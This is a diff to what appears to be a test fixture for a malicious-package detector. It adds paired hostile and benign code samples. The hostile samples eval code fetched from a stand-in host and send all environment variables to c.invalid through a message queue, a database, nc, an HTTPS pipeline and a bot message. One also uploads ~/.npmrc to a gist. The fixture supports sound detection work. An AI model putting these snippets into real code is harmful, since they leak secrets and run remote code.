@@ -11,6 +11,13 @@ const DEEDS: readonly Deed[] = [
     moments: ['import'],
   },
   {
+    name: 'a script whose address is decoded, and not one with a number that a service gives',
+    check: 'download-and-execute',
+    code: `fetch('https://c.invalid/n').then((r) => r.text()).then((n) => eval(n))`,
+    twin: `fetch('https://c.invalid/n').then((r) => r.text()).then((n) => { const s = document.createElement('script'); s.src = 'https://c.invalid/a.js?n=' + n })`,
+    moments: ['import'],
+  },
+  {
     name: 'all variables in the address of a picture',
     check: 'secrets-exfiltration',
     code: `new Image().src = 'https://c.invalid/?' + JSON.stringify(process.env)`,
@@ -57,6 +64,46 @@ const DEEDS: readonly Deed[] = [
       exports.watch = () => require('child_process').spawn('node', ['index.js'], { detached: true })`,
     files: { 'y.js': 'process.title = "y"' },
     moments: ['import'],
+  },
+  {
+    name: 'all variables in a queue',
+    check: 'secrets-exfiltration',
+    code: `require('amqplib').connect('amqp://c.invalid').then((c) => c.createChannel()).then((ch) => ch.sendToQueue('q', Buffer.from(JSON.stringify(process.env))))`,
+    twin: `require('amqplib').connect(process.env.AMQP_URL).then((c) => c.createChannel()).then((ch) => ch.sendToQueue('q', Buffer.from('ready')))`,
+  },
+  {
+    name: 'all variables in a database',
+    check: 'secrets-exfiltration',
+    code: `const { MongoClient } = require('mongodb'); new MongoClient('mongodb://c.invalid').db('d').collection('e').insertOne(process.env)`,
+    twin: `const { MongoClient } = require('mongodb'); exports.client = new MongoClient(process.env.MONGO_PASSWORD)`,
+  },
+  {
+    name: 'a file of secrets as a note of a code host',
+    check: 'secrets-exfiltration',
+    code: `const { Octokit } = require('@octokit/rest')
+      new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') } } })`,
+    twin: `const { Octokit } = require('@octokit/rest')
+      new Octokit({ auth: process.env.GITHUB_TOKEN }).gists.create({ files: { a: { content: 'ready' } } })`,
+  },
+  {
+    name: 'all variables fed to a command that sends',
+    check: 'secrets-exfiltration',
+    code: `require('child_process').spawn('nc', ['c.invalid', '443']).stdin.end(JSON.stringify(process.env))`,
+    twin: `require('child_process').spawn('gzip', ['-c']).stdin.end(JSON.stringify(process.env))`,
+  },
+  {
+    name: 'all variables in a pipeline',
+    check: 'secrets-exfiltration',
+    code: `const { Readable, pipeline } = require('stream')
+      pipeline(Readable.from([JSON.stringify(process.env)]), require('https').request({ host: 'c.invalid', method: 'POST' }), () => {})`,
+    twin: `const { Readable, pipeline } = require('stream')
+      pipeline(Readable.from([JSON.stringify(process.env)]), require('fs').createWriteStream('a.json'), () => {})`,
+  },
+  {
+    name: 'all variables in a message of a bot',
+    check: 'secrets-exfiltration',
+    code: `const { Bot } = require('grammy'); new Bot('1:x').api.sendMessage(1, JSON.stringify(process.env))`,
+    twin: `const { Bot } = require('grammy'); new Bot(process.env.BOT_TOKEN).api.sendMessage(1, 'ready')`,
   },
 ]
 
